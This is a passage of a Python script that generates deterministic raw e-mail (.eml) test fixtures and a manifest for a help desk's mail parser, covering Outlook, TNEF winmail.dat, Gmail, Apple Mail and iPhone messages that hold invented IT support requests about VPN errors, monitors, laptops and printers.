#!/usr/bin/env python3
"""Writes the inbound e-mail fixtures in this folder and their manifest.json.

Each fixture is one raw RFC 5322 message (.eml) as a mail server stores it: CRLF line
endings, the receiving server's Return-Path/Delivered-To/Received lines on top, then the
headers in the order the sending client writes them. People are invented; addresses use
example.com, example.org and northwind.example; the help desk is support@desk.test.

Usage:
    python3 make_fixtures.py           write every .eml and manifest.json, then check them
    python3 make_fixtures.py --check   only check the files on disk against the manifest

The check parses every file with Python's email package (policy=default) and compares
sender, subject, text, attachments, inline images, flags, In-Reply-To and Cc with the
manifest; it also checks the line endings and validates the TNEF stream in winmail.dat.
Everything is deterministic: running the script twice gives identical bytes.
"""

import base64
import datetime
import email
import email.policy
import hashlib
import json
import struct
import sys
import unicodedata
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
CRLF = "\r\n"
SP = "\x20"  # a trailing space that editors must not strip (format=flowed, "-- ")


# --------------------------------------------------------------------------- helpers


def crlf(text: str) -> str:
    """Normalises any line ending to CRLF."""
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def digest(label: str) -> bytes:
    return hashlib.sha256(label.encode("utf-8")).digest()


def hexid(label: str, n: int, upper: bool = True) -> str:
    h = ""
    seed = label
    while len(h) < n:
        seed = hashlib.sha256(seed.encode()).hexdigest()
        h += seed
    return h[:n].upper() if upper else h[:n]


def alnum(label: str, n: int) -> str:
    """Postfix-style long queue id characters."""
    alphabet = "0123456789BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz"
    out, seed = "", label
    while len(out) < n:
        seed = hashlib.sha256(seed.encode()).hexdigest()
        out += "".join(alphabet[int(seed[i:i + 2], 16) % len(alphabet)] for i in range(0, 64, 2))
    return out[:n]


def uuid_upper(label: str) -> str:
    h = hexid(label, 32)
    return f"{h[0:8]}-{h[8:12]}-4{h[13:16]}-A{h[17:20]}-{h[20:32]}"


def uuid_lower(label: str) -> str:
    return uuid_upper(label).lower()


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def b64_lines(data: bytes, width: int = 76) -> str:
    s = b64(data)
    return CRLF.join(s[i:i + width] for i in range(0, len(s), width))


def qp(data: bytes, maxlen: int = 76) -> str:
    """Quoted-printable (RFC 2045) of CRLF-separated text bytes, lines at most maxlen."""
    out = []
    for line in data.split(b"\r\n"):
        tokens = []
        for i, c in enumerate(line):
            last = i == len(line) - 1
            if (33 <= c <= 126 and c != 61) or (c in (9, 32) and not last):
                tokens.append(chr(c))
            else:
                tokens.append("=%02X" % c)
        cur = ""
        for tok in tokens:
            if len(cur) + len(tok) > maxlen - 1:
                out.append(cur + "=")
                cur = ""
            cur += tok
        out.append(cur)
    return CRLF.join(out)


def q_payload(data: bytes, lower: bool = False) -> str:
    """The 'Q' encoding of RFC 2047 (safe set for phrases and unstructured text)."""
    out = []
    for c in data:
        if c == 0x20:
            out.append("_")
        elif 0x30 <= c <= 0x39 or 0x41 <= c <= 0x5A or 0x61 <= c <= 0x7A or c in b"!*+-/":
            out.append(chr(c))
        else:
            out.append(("=%02x" if lower else "=%02X") % c)
    return "".join(out)


def encoded_words(text: str, charset: str, enc: str = "B", codec: str = None, maxlen: int = 75, lower: bool = False):
    """RFC 2047 encoded-words for text, split between characters so that every word is
    at most maxlen long and decodes on its own (each ISO-2022-JP word ends in ASCII)."""
    codec = codec or charset

    def one(s):
        raw = s.encode(codec)
        payload = b64(raw) if enc == "B" else q_payload(raw, lower)
        return f"=?{charset}?{enc}?{payload}?="

    words, cur = [], ""
    for ch in text:
        if cur and len(one(cur + ch)) > maxlen:
            words.append(one(cur))
            cur = ch
        else:
            cur += ch
    if cur:
        words.append(one(cur))
    # Some decoders (MimeKit among them) run adjacent 'B' words of one charset through one
    # base64 decoder; padding in the middle of such a run is asking for trouble.
    assert enc != "B" or all(not w[:-2].endswith("=") for w in words[:-1]), f"padded middle word in {words}"
    return words


def fold(words, indent: str = " ") -> str:
    return (CRLF + indent).join(words)


def flowed(paragraph: str, width: int = 72) -> str:
    """format=flowed (RFC 3676): soft line breaks are a space before the line end."""
    words = paragraph.split(" ")
    lines, cur = [], ""
    for w in words:
        if cur and len(cur) + 1 + len(w) > width:
            lines.append(cur + SP)
            cur = w
        else:
            cur = w if not cur else cur + " " + w
    lines.append(cur)
    return "\n".join(lines)


def thread_index(label: str) -> str:
    """Outlook's Thread-Index: 22 bytes (0x01 and the top of a 2025 FILETIME, then a GUID)."""
    return b64(b"\x01\xdb\x8c" + digest(label)[:3] + digest(label + "guid")[:16])


def message(head: str, body) -> bytes:
    """A whole message: head (text, LF or CRLF) + blank line + body (str or bytes)."""
    h = crlf(head.rstrip("\n") + "\n").encode("ascii")
    if isinstance(body, str):
        body = crlf(body).encode("ascii")
    return h + b"\r\n" + body


def mx(env_from: str, helo: str, rdns: str, ip: str, when: str, lmtp_when: str, label: str, tls: bool = True) -> str:
    """What the desk's own servers add on delivery: Return-Path, Delivered-To, LMTP and MX hops."""
    lines = [
        f"Return-Path: <{env_from}>",
        "Delivered-To: support@desk.test",
        "Received: from mx1.desk.test",
        "\tby imap.desk.test with LMTP",
        f"\tid {b64(digest(label + 'lmtp')[:16]).rstrip('=').replace('/', 'x').replace('+', 'Q')}",
        f"\t(envelope-from <{env_from}>)",
        f"\tfor <support@desk.test>; {lmtp_when}",
        f"Received: from {helo} ({rdns} [{ip}])",
    ]
    if tls:
        lines += [
            "\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)",
            "\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)",
            "\t(No client certificate requested)",
        ]
    lines += [
        f"\tby mx1.desk.test (Postfix) with {'ESMTPS' if tls else 'ESMTP'} id {alnum(label + 'qid', 14)}",
        f"\tfor <support@desk.test>; {when}",
    ]
    return "\n".join(lines) + "\n"


def enc(text: str, codec: str) -> bytes:
    return crlf(text).encode(codec)


# ------------------------------------------------------------------ binary payloads


def tiny_png(w: int = 16, h: int = 16) -> bytes:
    raw = b""
    for y in range(h):
        raw += b"\x00" + b"".join(bytes((40 + y * 8, 110 + x * 4, 200 - y * 6)) for x in range(w))

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def tiny_pdf(text: str) -> bytes:
    stream = b"BT /F1 14 Tf 24 60 Td (" + text.encode("latin-1") + b") Tj ET"
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 120] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for i, obj in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return out


# TNEF ([MS-OXTNEF]): signature, legacy key, then attributes. Each attribute is
# level (1 message, 2 attachment), tag (type << 16 | id), length, data, checksum
# (sum of the data bytes mod 65536), all little-endian.
TNEF_SIGNATURE = 0x223E9F78
LVL_MESSAGE, LVL_ATTACHMENT = 1, 2
ATP_STRING, ATP_DATE, ATP_BYTE, ATP_WORD, ATP_DWORD = 0x0001, 0x0003, 0x0006, 0x0007, 0x0008
PT_LONG, PT_STRING8 = 0x0003, 0x001E
TNEF_ATTACHMENT_CONTENT = b"VPN error 809 at 08:14"


def tnef_attr(level: int, atp: int, attr_id: int, data: bytes) -> bytes:
    tag = (atp << 16) | attr_id
    return struct.pack("<BII", level, tag, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)


def tnef_date(y, mo, d, h, mi, s) -> bytes:
    return struct.pack("<7H", y, mo, d, h, mi, s, datetime.date(y, mo, d).isoweekday() % 7)


def mapi_props(props) -> bytes:
    out = struct.pack("<I", len(props))
    for ptype, pid, value in props:
        out += struct.pack("<HH", ptype, pid)
        if ptype == PT_LONG:
            out += struct.pack("<I", value & 0xFFFFFFFF)
        elif ptype == PT_STRING8:
            raw = value.encode("cp1252") + b"\x00"
            out += struct.pack("<II", 1, len(raw)) + raw + b"\x00" * (-len(raw) % 4)
        else:
            raise ValueError(ptype)
    return out


def winmail_dat() -> bytes:
    data = struct.pack("<IH", TNEF_SIGNATURE, 0x5C1D)
    data += tnef_attr(LVL_MESSAGE, ATP_DWORD, 0x9006, struct.pack("<I", 0x00010000))        # attTnefVersion
    data += tnef_attr(LVL_MESSAGE, ATP_BYTE, 0x9007, struct.pack("<II", 1252, 0))            # attOemCodepage
    data += tnef_attr(LVL_MESSAGE, ATP_WORD, 0x8008, b"IPM.Microsoft Mail.Note\x00")          # attMessageClass
    data += tnef_attr(LVL_ATTACHMENT, ATP_BYTE, 0x9002,                                      # attAttachRendData
                      struct.pack("<HIHHI", 1, 0xFFFFFFFF, 0xFFFF, 0xFFFF, 0))
    data += tnef_attr(LVL_ATTACHMENT, ATP_STRING, 0x8010, b"error-log.txt\x00")              # attAttachTitle
    data += tnef_attr(LVL_ATTACHMENT, ATP_DATE, 0x8012, tnef_date(2025, 3, 3, 8, 14, 2))     # attAttachCreateDate
    data += tnef_attr(LVL_ATTACHMENT, ATP_DATE, 0x8013, tnef_date(2025, 3, 3, 8, 14, 2))     # attAttachModifyDate
    data += tnef_attr(LVL_ATTACHMENT, ATP_BYTE, 0x800F, TNEF_ATTACHMENT_CONTENT)             # attAttachData
    data += tnef_attr(LVL_ATTACHMENT, ATP_BYTE, 0x9005, mapi_props([                         # attAttachment
        (PT_LONG, 0x3705, 1),                      # PR_ATTACH_METHOD = ATTACH_BY_VALUE
        (PT_STRING8, 0x3707, "error-log.txt"),     # PR_ATTACH_LONG_FILENAME
        (PT_STRING8, 0x3703, ".txt"),              # PR_ATTACH_EXTENSION
        (PT_STRING8, 0x370E, "text/plain"),        # PR_ATTACH_MIME_TAG
        (PT_LONG, 0x370B, -1),                     # PR_RENDERING_POSITION
        (PT_STRING8, 0x3001, "error-log.txt"),     # PR_DISPLAY_NAME
    ]))
    return data


def read_tnef(data: bytes):
    """Minimal TNEF reader for the check: verifies checksums, returns attachment titles and data."""
    sig, _key = struct.unpack_from("<IH", data, 0)
    assert sig == TNEF_SIGNATURE, "bad TNEF signature"
    pos, attachments = 6, []
    while pos < len(data):
        level, tag, length = struct.unpack_from("<BII", data, pos)
        pos += 9
        value = data[pos:pos + length]
        pos += length
        (checksum,) = struct.unpack_from("<H", data, pos)
        pos += 2
        assert checksum == sum(value) & 0xFFFF, f"bad checksum on attribute {tag:#010x}"
        assert level in (LVL_MESSAGE, LVL_ATTACHMENT)
        if tag == 0x00069002:
            attachments.append({})
        elif tag == 0x00018010:
            attachments[-1]["title"] = value.rstrip(b"\x00").decode("cp1252")
        elif tag == 0x0006800F:
            attachments[-1]["data"] = value
    assert pos == len(data)
    return attachments


# ------------------------------------------------------------------------- fixtures

FIXTURES = []  # (file name, bytes, manifest entry)


def fixture(name, data, *, from_address, from_name, subject, body_contains, attachments=(), inline_images=0,
            auto_reply=False, bulk=False, bounce=False, in_reply_to=None, cc=()):
    FIXTURES.append((name, data, {
        "file": name,
        "fromAddress": from_address,
        "fromName": from_name,
        "subject": subject,
        "bodyContains": body_contains,
        "attachments": list(attachments),
        "inlineImages": inline_images,
        "autoReply": auto_reply,
        "bulk": bulk,
        "bounce": bounce,
        "inReplyTo": in_reply_to,
        "cc": list(cc),
    }))


# 1. Outlook 16 on Windows, windows-1252 quoted-printable, plain + HTML -------------------------

def outlook_html_windows1252():
    name = "Weiß, Jürgen"
    subject = "VPN bricht ständig ab – „Fehler 809“ seit dem Update"
    boundary = "----=_NextPart_000_0017_01DB8C17.2E4F6A30"
    text = """Hallo zusammen,

seit dem Windows-Update gestern bricht meine VPN-Verbindung alle paar Minuten ab. Der Client meldet „Fehler 809“ und im Ereignisprotokoll steht “The network connection between your computer and the VPN server could not be established”.

Das passiert im Homeoffice und auch im Café gegenüber vom Büro – am WLAN liegt es also wohl nicht.
Die Zusatzlizenz für den Client (49 € laut Angebot) ist doch schon bezahlt, oder?

Könnt ihr euch das bitte heute noch ansehen? Um 14:00 Uhr habe ich einen Kundentermin per Teams.

Mit freundlichen Grüßen

Jürgen Weiß
Einkauf
Northwind Traders GmbH | Speicherstraße 12 | 20457 Hamburg
Tel. +49 40 5550 1234 | juergen.weiss@northwind.example
"""
    paragraphs = [
        "Hallo zusammen,",
        None,
        "seit dem Windows-Update gestern bricht meine VPN-Verbindung alle paar Minuten ab. Der Client meldet „Fehler 809“ und im Ereignisprotokoll steht “The network connection between your computer and the VPN server could not be established”.",
        None,
        "Das passiert im Homeoffice und auch im Café gegenüber vom Büro – am WLAN liegt es also wohl nicht.",
        "Die Zusatzlizenz für den Client (49 € laut Angebot) ist doch schon bezahlt, oder?",
        None,
        "Könnt ihr euch das bitte heute noch ansehen? Um 14:00 Uhr habe ich einen Kundentermin per Teams.",
        None,
        "Mit freundlichen Grüßen",
        None,
    ]
    html_paras = "\n".join(
        '<p class="MsoNormal"><o:p>&nbsp;</o:p></p>' if p is None else f'<p class="MsoNormal">{p}<o:p></o:p></p>'
        for p in paragraphs)
    html = f"""<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=windows-1252">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<style><!--
/* Font Definitions */
@font-face
\t{{font-family:"Cambria Math";
\tpanose-1:2 4 5 3 5 4 6 3 2 4;}}
@font-face
\t{{font-family:Aptos;}}
/* Style Definitions */
p.MsoNormal, li.MsoNormal, div.MsoNormal
\t{{margin:0cm;
\tfont-size:11.0pt;
\tfont-family:"Aptos",sans-serif;
\tmso-ligatures:standardcontextual;
\tmso-fareast-language:EN-US;}}
span.E-MailFormatvorlage17
\t{{mso-style-type:personal-compose;
\tfont-family:"Aptos",sans-serif;
\tcolor:windowtext;}}
.MsoChpDefault
\t{{mso-style-type:export-only;
\tfont-size:11.0pt;
\tmso-fareast-language:EN-US;}}
@page WordSection1
\t{{size:612.0pt 792.0pt;
\tmargin:70.85pt 70.85pt 2.0cm 70.85pt;}}
div.WordSection1
\t{{page:WordSection1;}}
--></style><!--[if gte mso 9]><xml>
<o:shapedefaults v:ext="edit" spidmax="1026" />
</xml><![endif]--><!--[if gte mso 9]><xml>
<o:shapelayout v:ext="edit">
<o:idmap v:ext="edit" data="1" />
</o:shapelayout></xml><![endif]-->
</head>
<body lang="DE" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">
<div class="WordSection1">
{html_paras}
<p class="MsoNormal"><b><span style="font-size:10.0pt;color:#1F3864">Jürgen Weiß<o:p></o:p></span></b></p>
<p class="MsoNormal"><span style="font-size:10.0pt;color:#1F3864">Einkauf<o:p></o:p></span></p>
<p class="MsoNormal"><span style="font-size:10.0pt;color:#1F3864">Northwind Traders GmbH | Speicherstraße 12 | 20457 Hamburg<o:p></o:p></span></p>
<p class="MsoNormal"><span style="font-size:10.0pt;color:#1F3864">Tel. +49 40 5550 1234 | <a href="mailto:juergen.weiss@northwind.example"><span style="color:#0563C1">juergen.weiss@northwind.example</span></a><o:p></o:p></span></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
</div>
</body>
</html>
"""
    head = mx("juergen.weiss@northwind.example", "mail.northwind.example", "mail.northwind.example", "198.51.100.10",
              "Mon,  3 Mar 2025 09:14:01 +0100 (CET)", "Mon, 03 Mar 2025 09:14:01 +0100", "outlook1252")
    head += f"""Received: from WS-JWEISS01 (ws-jweiss01.int.northwind.example [10.20.3.41])
\t(Authenticated sender: juergen.weiss@northwind.example)
\tby mail.northwind.example (Postfix) with ESMTPSA id {alnum('outlook1252-sub', 14)}
\tfor <support@desk.test>; Mon,  3 Mar 2025 09:13:59 +0100 (CET)
From: {fold(encoded_words(name, 'iso-8859-1', 'Q'))} <juergen.weiss@northwind.example>
To: <support@desk.test>
Subject: {fold(encoded_words(subject, 'windows-1252', 'Q', codec='cp1252'))}
Date: Mon, 3 Mar 2025 09:13:58 +0100
Message-ID: <001701db8c0e$4a2b3c10$de6fb430$@northwind.example>
MIME-Version: 1.0
Content-Type: multipart/alternative;
\tboundary="{boundary}"
X-Mailer: Microsoft Outlook 16.0
Thread-Index: {thread_index('outlook1252')}
Content-Language: de-DE
"""
    body = (
        crlf(f"This is a multipart message in MIME format.\n\n--{boundary}\n"
             'Content-Type: text/plain;\n\tcharset="windows-1252"\nContent-Transfer-Encoding: quoted-printable\n\n')
        + qp(enc(text, "cp1252")) + CRLF
        + crlf(f"--{boundary}\n"
               'Content-Type: text/html;\n\tcharset="windows-1252"\nContent-Transfer-Encoding: quoted-printable\n\n')
        + qp(enc(html, "cp1252")) + CRLF
        + crlf(f"--{boundary}--\n")
    )
    fixture("outlook-html-windows1252.eml", message(head, body),
            from_address="juergen.weiss@northwind.example", from_name=name, subject=subject,
            body_contains="49 € laut Angebot")


# 2. Outlook rich text: text/plain + winmail.dat (TNEF) ----------------------------------------

def outlook_tnef_winmail():
    ex = "DB9PR08MB7146"
    mid = f"<{ex}{hexid('tnef-mid', 29)}@{ex}.eurprd08.prod.outlook.com>"
    correlator = f"<{ex}{hexid('tnef-cor', 29)}@{ex}.eurprd08.prod.outlook.com>"
    boundary = f"_002_{ex}{hexid('tnef-mid', 29)}{ex}eurp_"
    subject = "VPN error 809 - log attached"
    text = """Hi Service Desk,

my VPN keeps dropping with error 809 since this morning (first time at 08:14). The error log from the client is attached.

I'm working from home today, mobile: +44 20 7946 0991.

Thanks,
Derek

Derek Thompson
Finance | Northwind Traders Ltd
"""
    head = mx("derek.thompson@northwind.example", "EUR05-DB8-obe.outbound.protection.outlook.com",
              "mail-db8eur05on2071.outbound.protection.outlook.com", "203.0.113.71",
              "Mon,  3 Mar 2025 09:31:15 +0100 (CET)", "Mon, 03 Mar 2025 09:31:15 +0100", "tnef")
    head += f"""Received: from {ex}.eurprd08.prod.outlook.com (2001:db8:20b:5f1::14) by
 {ex}.eurprd08.prod.outlook.com (2001:db8:20b:5f1::14) with Microsoft SMTP Server
 (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8489.24;
 Mon, 3 Mar 2025 08:31:13 +0000
From: Derek Thompson <derek.thompson@northwind.example>
To: "support@desk.test" <support@desk.test>
Subject: {fold(encoded_words(subject, 'us-ascii', 'Q'))}
Thread-Topic: {subject}
Thread-Index: {thread_index('tnef')}
Date: Mon, 3 Mar 2025 08:31:12 +0000
Message-ID: {mid}
Accept-Language: en-GB, en-US
Content-Language: en-GB
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator: {correlator}
Content-Type: multipart/mixed;
\tboundary="{boundary}"
MIME-Version: 1.0
"""
    body = (
        crlf(f"--{boundary}\n"
             'Content-Type: text/plain; charset="us-ascii"\nContent-Transfer-Encoding: quoted-printable\n\n')
        + qp(enc(text, "ascii")) + CRLF
        + crlf(f"--{boundary}\n"
               'Content-Type: application/ms-tnef; name="winmail.dat"\n'
               'Content-Description: winmail.dat\n'
               'Content-Disposition: attachment; filename="winmail.dat"; size=%d;\n'
               '\tcreation-date="Mon, 03 Mar 2025 08:31:12 GMT";\n'
               '\tmodification-date="Mon, 03 Mar 2025 08:31:12 GMT"\n'
               'Content-Transfer-Encoding: base64\n\n' % len(winmail_dat()))
        + b64_lines(winmail_dat()) + CRLF + CRLF
        + crlf(f"--{boundary}--\n")
    )
    fixture("outlook-tnef-winmail.eml", message(head, body),
            from_address="derek.thompson@northwind.example", from_name="Derek Thompson", subject=subject,
            body_contains="keeps dropping with error 809", attachments=["error-log.txt"])


# 3. Gmail web client, UTF-8 --------------------------------------------------------------------

def gmail_utf8():
    name = "Zoë Ångström"
    subject = "VPN bryter hela tiden 😩 – kan ni hjälpa?"
    boundary = "000000000000" + hexid("gmail-b", 16, upper=False)
    text = """Hej!

My VPN connection drops every 10–15 minutes since Friday. I'm in the Göteborg office on the guest Wi-Fi; the client shows “Reconnecting…” and then nothing happens.

Could someone call me? My number is +46 31 555 01 23.

Tack så mycket för hjälpen! 🙏

/Zoë
"""
    html = ('<div dir="ltr">Hej!<div><br></div><div>My VPN connection drops every 10–15 minutes since Friday. '
            "I'm in the Göteborg office on the guest Wi-Fi; the client shows “Reconnecting…” and then nothing happens."
            "</div><div><br></div><div>Could someone call me? My number is +46 31 555 01 23.</div><div><br></div>"
            "<div>Tack så mycket för hjälpen! 🙏</div><div><br></div><div>/Zoë</div></div>\n")
    mid = "<CAJx8kQ1" + b64(digest("gmail-mid")[:30]).replace("/", "_").replace("+", "-") + "@mail.gmail.com>"
    head = mx("zoe.angstrom@example.com", "mail-ej1-f54.google.com", "mail-ej1-f54.google.com", "198.51.100.54",
              "Mon,  3 Mar 2025 10:42:21 +0100 (CET)", "Mon, 03 Mar 2025 10:42:21 +0100", "gmail")
    dkim_b = b64(digest("gmail-dkim-1") + digest("gmail-dkim-2") + digest("gmail-dkim-3") + digest("gmail-dkim-4"))
    head += f"""Received: by mail-ej1-f54.google.com with SMTP id a640c23a62f3a-abf6f2a5e0aso312419966b.2
        for <support@desk.test>; Mon, 03 Mar 2025 01:42:19 -0800 (PST)
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
        d=example.com; s=google; t=1740994939; x=1741599739; darn=desk.test;
        h=to:subject:message-id:date:from:mime-version:from:to:cc:subject
         :date:message-id:reply-to;
        bh={b64(digest('gmail-bh'))};
        b={dkim_b[:66]}
         {dkim_b[66:130]}
         {dkim_b[130:]}
X-Google-Smtp-Source: AGHT+IE{b64(digest('gmail-src'))[:60]}
X-Received: by 2002:a17:907:7e9b:b0:abf:6f2a:5e0e with SMTP id
 qb27-20020a1709077e9b00b00abf6f2a5e0emr1204357ejc.13.1740994939012; Mon, 03
 Mar 2025 01:42:19 -0800 (PST)
MIME-Version: 1.0
From: {fold(encoded_words(name, 'UTF-8', 'B'))} <zoe.angstrom@example.com>
Date: Mon, 3 Mar 2025 10:42:17 +0100
X-Gm-Features: AQ5f1J{b64(digest('gmail-feat'))[:40]}
Message-ID: {mid}
Subject: {fold(encoded_words(subject, 'UTF-8', 'B'))}
To: support@desk.test
Content-Type: multipart/alternative; boundary="{boundary}"
"""
    body = (
        crlf(f"--{boundary}\n"
             'Content-Type: text/plain; charset="UTF-8"\nContent-Transfer-Encoding: base64\n\n')
        + b64_lines(enc(text, "utf-8")) + CRLF
        + crlf(f"--{boundary}\n"
               'Content-Type: text/html; charset="UTF-8"\nContent-Transfer-Encoding: quoted-printable\n\n')
        + qp(enc(html, "utf-8")) + CRLF
        + crlf(f"--{boundary}--\n")
    )
    fixture("gmail-utf8.eml", message(head, body),
            from_address="zoe.angstrom@example.com", from_name=name, subject=subject,
            body_contains="Tack så mycket för hjälpen!")


# 4. Apple Mail: alternative with related HTML + inline PNG, plus a PDF attachment ---------------

def apple_mail_inline_image():
    outer = "Apple-Mail=_" + uuid_upper("apple-outer")
    alt = "Apple-Mail=_" + uuid_upper("apple-alt")
    rel = "Apple-Mail=_" + uuid_upper("apple-rel")
    cid = uuid_upper("apple-cid") + "@example.org"
    subject = "Bildschirm flackert – Screenshot anbei"
    text = """Hallo Service-Desk,

mein externer Monitor flackert, sobald ich das MacBook an die Dockingstation anschließe. Ein Foto vom Bildschirm ist unten eingefügt, der Screenshot aus den Systemeinstellungen hängt als PDF an.

Viele Grüße
Emma Richter

"""
    html = ('<html aria-label="message body"><head><meta http-equiv="content-type" content="text/html; charset=utf-8">'
            '</head><body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">'
            "Hallo Service-Desk,<div><br></div><div>mein externer Monitor flackert, sobald ich das MacBook an die "
            "Dockingstation anschließe. Ein Foto vom Bildschirm ist unten eingefügt, der Screenshot aus den "
            "Systemeinstellungen hängt als PDF an.</div><div><br></div>"
            f'<div><img apple-inline="yes" id="{uuid_upper("apple-img")}" src="cid:{cid}" alt="image.png"></div>'
            "<div><br></div><div>Viele Grüße</div><div>Emma Richter</div><div><br></div></body></html>")
    png = tiny_png()
    pdf = tiny_pdf("Display settings: 2 displays, 60 Hz")
    head = mx("emma.richter@example.org", "smtp.example.org", "smtp.example.org", "198.51.100.33",
              "Tue,  4 Mar 2025 14:07:49 +0100 (CET)", "Tue, 04 Mar 2025 14:07:49 +0100", "apple")
    head += f"""Received: from smtpclient.apple (p5b0c2a17.dip0.example.org [203.0.113.140])
\t(Authenticated sender: emma.richter@example.org)
\tby smtp.example.org (Postfix) with ESMTPSA id {alnum('apple-sub', 14)}
\tfor <support@desk.test>; Tue,  4 Mar 2025 14:07:47 +0100 (CET)
From: Emma Richter <emma.richter@example.org>
Content-Type: multipart/mixed;
\tboundary="{outer}"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.400.131.1.6\\))
Subject: {fold(encoded_words(subject, 'utf-8', 'Q'))}
Message-Id: <{uuid_upper('apple-mid')}@example.org>
Date: Tue, 4 Mar 2025 14:07:45 +0100
To: support@desk.test
X-Mailer: Apple Mail (2.3826.400.131.1.6)
"""
    body = (
        crlf(f"\n--{outer}\nContent-Type: multipart/alternative;\n\tboundary=\"{alt}\"\n\n\n"
             f"--{alt}\nContent-Transfer-Encoding: quoted-printable\nContent-Type: text/plain;\n\tcharset=utf-8\n\n")
        + qp(enc(text, "utf-8")) + CRLF
        + crlf(f"--{alt}\nContent-Type: multipart/related;\n\ttype=\"text/html\";\n\tboundary=\"{rel}\"\n\n\n"
               f"--{rel}\nContent-Transfer-Encoding: quoted-printable\nContent-Type: text/html;\n\tcharset=utf-8\n\n")
        + qp(enc(html, "utf-8")) + CRLF
        + crlf(f"--{rel}\nContent-Transfer-Encoding: base64\nContent-Disposition: inline;\n\tfilename=image.png\n"
               f"Content-Type: image/png;\n\tx-unix-mode=0644;\n\tname=\"image.png\"\nContent-Id: <{cid}>\n\n")
        + b64_lines(png) + CRLF
        + crlf(f"--{rel}--\n\n--{alt}--\n\n"
               f"--{outer}\nContent-Disposition: attachment;\n\tfilename=screenshot.pdf\n"
               "Content-Type: application/pdf;\n\tx-unix-mode=0644;\n\tname=\"screenshot.pdf\"\n"
               "Content-Transfer-Encoding: base64\n\n")
        + b64_lines(pdf) + CRLF
        + crlf(f"--{outer}--\n")
    )
    fixture("apple-mail-inline-image.eml", message(head, body),
            from_address="emma.richter@example.org", from_name="Emma Richter", subject=subject,
            body_contains="Dockingstation anschließe", attachments=["screenshot.pdf"], inline_images=1)


# 5. iPhone, plain text, format=flowed ------------------------------------------------------------

def iphone_plain():
    subject = "Laptop won’t boot"
    paragraphs = [
        "Hi,",
        "my laptop (ThinkPad, asset tag NW-04711) won’t boot since this morning. The fan spins up, the screen stays black and the power LED blinks three times. I tried another charger – same thing.",
        "I’m in the office from 9, room 3.14, desk next to Jürgen.",
        "Lukas",
        "Sent from my iPhone",
    ]
    text = "\n\n".join(flowed(p) for p in paragraphs) + "\n"
    head = mx("lukas.berger@example.com", "smtp.example.com", "smtp.example.com", "198.51.100.21",
              "Tue,  4 Mar 2025 07:12:12 +0100 (CET)", "Tue, 04 Mar 2025 07:12:12 +0100", "iphone")
    head += f"""Received: from smtpclient.apple (ip-203-0-113-9.mobile.example.com [203.0.113.9])
\t(Authenticated sender: lukas.berger@example.com)
\tby smtp.example.com (Postfix) with ESMTPSA id {alnum('iphone-sub', 14)}
\tfor <support@desk.test>; Tue,  4 Mar 2025 07:12:10 +0100 (CET)
Content-Type: text/plain; charset=utf-8; format=flowed
Content-Transfer-Encoding: quoted-printable
From: Lukas Berger <lukas.berger@example.com>
Mime-Version: 1.0 (1.0)
Date: Tue, 4 Mar 2025 07:12:09 +0100
Subject: {fold(encoded_words(subject, 'utf-8', 'Q'))}
Message-Id: <{uuid_upper('iphone-mid')}@example.com>
To: support@desk.test
X-Mailer: iPhone Mail (22D82)
"""
    fixture("iphone-plain.eml", message(head, qp(enc(text, "utf-8")) + CRLF),
            from_address="lukas.berger@example.com", from_name="Lukas Berger", subject=subject,
            body_contains="desk next to Jürgen")


# 6. Gmail for Android, a reply with quoted history ----------------------------------------------

def android_gmail_reply():
    name = "Tomás Herrera"
    subject = "Re: [#10042] Printer on floor 3 jams"
    boundary = "000000000000" + hexid("android-b", 16, upper=False)
    text = """Thanks – it jammed again this morning at 07:55, tray 2, paper is 80 g/m².
The display says "Paper jam in fuser area".

Tomás

On Mon, 3 Mar 2025, 09:20 Frontdesk Support, <support@desk.test> wrote:

> Hello Tomás,
>
> thank you for your request. We created ticket #10042 "Printer on floor 3
> jams" and a technician will look at the printer today.
>
> Please keep [#10042] in the subject when you reply.
>
> Frontdesk IT Service Desk
>
"""
    html = ('<div dir="auto">Thanks – it jammed again this morning at 07:55, tray 2, paper is 80 g/m².<div dir="auto">'
            'The display says &quot;Paper jam in fuser area&quot;.</div><div dir="auto"><br></div>'
